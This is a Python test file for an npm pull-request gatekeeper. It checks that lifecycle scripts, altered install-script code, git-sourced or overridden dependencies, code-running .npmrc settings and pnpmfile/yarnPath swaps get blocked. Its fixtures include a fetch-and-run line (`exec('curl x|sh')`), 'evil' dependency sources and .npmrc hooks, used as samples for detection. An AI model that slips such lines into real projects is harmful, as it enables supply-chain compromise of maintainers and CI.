"""Pull-request mode, local-install vectors (issue 9, item 7): what a maintainer's or CI's `npm install`
of the PR runs. Real git repositories read through the same git-object adapter as the action."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

from gatekeeper.modes.pull_request import GitObjects, PullRequestCheck, PullRequestEvent, check_manifests
from gatekeeper.trust.policy import Policy, parse_policy
from tests._support.workspace import git

BASE = {"name": "widget", "version": "1.0.0", "main": "index.js"}


def pkg(**extra: Any) -> str:
    return json.dumps({**BASE, **extra}, indent=2) + "\n"


def run(tmp: Path, base: dict[str, str], head: dict[str, str | None], policy: Policy | None = None) -> list[Any]:
    """Commit `base`, then `head` on top (None deletes); the `manifests` gate's findings."""
    repo = tmp / "repo"
    repo.mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "config", "commit.gpgsign", "false")
    git(repo, "config", "user.email", "t@example.com")
    git(repo, "config", "user.name", "t")

    def write(files: dict[str, str | None]) -> str:
        for rel, text in files.items():
            path = repo / rel
            if text is None:
                path.unlink()
                continue
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", "c", "--allow-empty")
        return git(repo, "rev-parse", "HEAD").strip()

    base_sha = write(base)
    head_sha = write(head)
    objects = GitObjects(repo)
    check = PullRequestCheck(
        pr=PullRequestEvent(7, base_sha, head_sha, "main", "opened", ""),
        git=objects,
        merge_base=base_sha,
        policy=policy or Policy(),
        policy_path=".github/npm-gatekeeper.yml",
        registry="https://registry.npmjs.org/",
        changed=objects.changed(base_sha, head_sha),
    )
    return check_manifests(check)


def rules(findings: list[Any]) -> list[tuple[str, bool]]:
    return [(f.rule, f.blocks) for f in findings]


def test_scripts_a_local_install_runs_block_with_the_release_rule_ids(tmp_path: Path) -> None:
    """The bypass: prepare & co. only warned (they run on every local `npm install` of the repository)."""
    for i, name in enumerate(("prepare", "preprepare", "postprepare", "prepublish", "dependencies")):
        found = run(tmp_path / str(i), {"package.json": pkg()}, {"package.json": pkg(scripts={name: "node x.js"})})
        assert rules(found) == [("lifecycle-script-added", True)], name


def test_file_a_prepare_script_runs_is_install_code(tmp_path: Path) -> None:
    base = {"package.json": pkg(scripts={"prepare": "cd tools && node build.js"}), "tools/build.js": "1\n"}
    found = run(tmp_path, base, {"tools/build.js": "require('child_process').exec('curl x|sh')\n"})
    assert rules(found) == [("install-script-code-changed", True)] and found[0].file == "tools/build.js"


def test_git_sourced_dev_dependency_blocks(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        {"package.json": pkg(devDependencies={"tool": "^1.0.0"})},
        {"package.json": pkg(devDependencies={"tool": "github:evil/tool#main"})},
    )
    assert rules(found) == [("dependency-source-changed", True)]


def test_overrides_to_other_sources_block_and_version_overrides_warn(tmp_path: Path) -> None:
    found = run(
        tmp_path / "a",
        {"package.json": pkg()},
        {
            "package.json": pkg(
                overrides={"lodash": "npm:evil-lodash@1.0.0"}, resolutions={"ms": "git+https://x.example/ms.git"}
            )
        },
    )
    assert sorted(rules(found)) == [("dependency-source-changed", True), ("dependency-source-changed", True)]
    nested = run(tmp_path / "b", {"package.json": pkg()}, {"package.json": pkg(pnpm={"overrides": {"a>b": "2.0.0"}})})
    assert rules(nested) == [("local-install-hook-changed", False)]


def test_npmrc_settings_that_run_code_block(tmp_path: Path) -> None:
    base = {"package.json": pkg(), ".npmrc": "fund=false\n"}
    for i, line in enumerate(("node-options=--require ./.hooks/x.js", "script-shell=./sh.js", "onload-script=./x.js")):
        found = run(tmp_path / str(i), base, {".npmrc": f"fund=false\n{line}\n"})
        assert rules(found) == [("local-install-hook-changed", True)], line
        assert found[0].file == ".npmrc" and found[0].line == 2
    assert run(tmp_path / "ok", base, {".npmrc": "fund=false\naudit=false\n"}) == []


def test_pnpmfile_and_yarn_path_block(tmp_path: Path) -> None:
    found = run(tmp_path / "p", {"package.json": pkg()}, {".pnpmfile.cjs": "module.exports = {hooks: {}}\n"})
    assert rules(found) == [("local-install-hook-changed", True)]
    yarn = run(
        tmp_path / "y",
        {"package.json": pkg()},
        {".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n", ".yarn/releases/yarn-4.1.0.cjs": "evil\n"},
    )
    assert ("local-install-hook-changed", True) in rules(yarn) and {f.file for f in yarn} >= {".yarnrc.yml"}
    swapped = run(
        tmp_path / "s",
        {"package.json": pkg(), ".yarnrc.yml": "yarnPath: .yarn/releases/y.cjs\n", ".yarn/releases/y.cjs": "ok\n"},
        {".yarn/releases/y.cjs": "evil\n"},
    )
    assert rules(swapped) == [("local-install-hook-changed", True)] and swapped[0].file == ".yarn/releases/y.cjs"


def test_local_install_hook_approved_by_exact_path_in_the_base_policy(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        {"package.json": pkg()},
        {".pnpmfile.cjs": "module.exports = {}\n"},
        parse_policy(
            "approve: {files: [{path: .pnpmfile.cjs, sha256: "
            + hashlib.sha256(b"module.exports = {}\n").hexdigest()
            + "}]}"
        ),
    )
    assert rules(found) == [("approved-change", False)]
